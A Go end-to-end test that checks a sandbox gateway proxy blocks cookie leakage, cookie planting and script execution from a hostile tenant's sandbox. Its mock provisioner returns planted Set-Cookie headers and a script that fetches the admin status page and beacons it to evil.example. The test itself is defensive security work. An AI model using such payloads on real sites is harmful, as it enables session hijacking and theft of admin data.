package e2e

import (
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"testing"
)

// Finding 4 of issue 33, the proxy's half: a sandbox whose responses its
// tenant controls (here a remote provisioner's) is sent none of the
// cookies of the gateway's origin — an admin's status session among them —
// cannot set one there, and its HTML runs sandboxed by CSP.
func TestHostileSandboxGetsNoStatusCookie(t *testing.T) {
	t.Parallel()
	seen := make(chan http.Header, 4)
	prov := hostileProvisioner(t, func(w http.ResponseWriter, r *http.Request) {
		seen <- r.Header.Clone()
		h := w.Header()
		h.Set("Content-Type", "text/html; charset=utf-8")
		// Overwrite the admin's login, and plant a cookie for every path.
		h.Add("Set-Cookie", "sandgate_status=planted; Path=/status")
		h.Add("Set-Cookie", "tracker=1; Path=/")
		_, _ = io.WriteString(w, `<script>fetch("/status/sandboxes").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t))</script>`)
	})
	f := newFleet(t, "--backend", "remote", "--provisioner-url", prov.URL,
		"--auth-api-keys", "admin="+sha("admin-key")+":threads+admin")
	g := f.start()

	// The admin logs into the status page in a browser (a cookie jar).
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	browser := &http.Client{Jar: jar, Transport: &http.Transport{Proxy: nil},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := browser.PostForm(g.URL+"/status/login", url.Values{"token": {"admin-key"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	statusURL, _ := url.Parse(g.URL + "/status")
	var session *http.Cookie
	for _, c := range jar.Cookies(statusURL) {
		if c.Name == "sandgate_status" {
			session = c
		}
	}
	if resp.StatusCode != http.StatusSeeOther || session == nil {
		t.Fatalf("status login: %d, cookies %v", resp.StatusCode, jar.Cookies(statusURL))
	}

	// The admin opens a sandbox's page with the same browser. A browser
	// sends the session cookie wherever its path allows, and the gateway's
	// origin holds other cookies (earlier versions' Path=/ login among
	// them): the request carries it explicitly so the proxy, not the
	// cookie's path, is what is tested.
	req, _ := http.NewRequest(http.MethodGet, g.URL+"/threads/victim/v1/page", nil)
	req.Header.Set("Authorization", "Bearer admin-key")
	req.AddCookie(&http.Cookie{Name: "sandgate_status", Value: session.Value})
	resp, err = browser.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(page), "<script>") {
		t.Fatalf("proxied page: %d %s\n%s", resp.StatusCode, page, tail(g.logs.String(), 20))
	}

	got := <-seen
	for k, vs := range got {
		for _, v := range vs {
			if strings.Contains(v, session.Value) || strings.Contains(v, "admin-key") {
				t.Errorf("the sandbox received the admin's credential in %s: %q", k, v)
			}
		}
	}
	if c := got.Values("Cookie"); len(c) > 0 {
		t.Errorf("the sandbox received Cookie %q", c)
	}
	if c := resp.Header.Values("Set-Cookie"); len(c) > 0 {
		t.Errorf("the sandbox's Set-Cookie reached the browser: %q", c)
	}
	for k, want := range map[string]string{"Content-Security-Policy": "sandbox",
		"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer"} {
		if v := resp.Header.Values(k); len(v) != 1 || v[0] != want {
			t.Errorf("proxied HTML: %s = %q, want %q", k, v, want)
		}
	}

	// The admin's session is still the one the login set, and still works.
	for _, c := range jar.Cookies(statusURL) {
		if c.Name == "sandgate_status" && c.Value != session.Value {
			t.Errorf("the sandbox overwrote the status session cookie: %q", c.Value)
		}
	}
	resp, err = browser.Get(g.URL + "/status/sandboxes")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("status page with the session after the sandbox's page: %d", resp.StatusCode)
	}
}
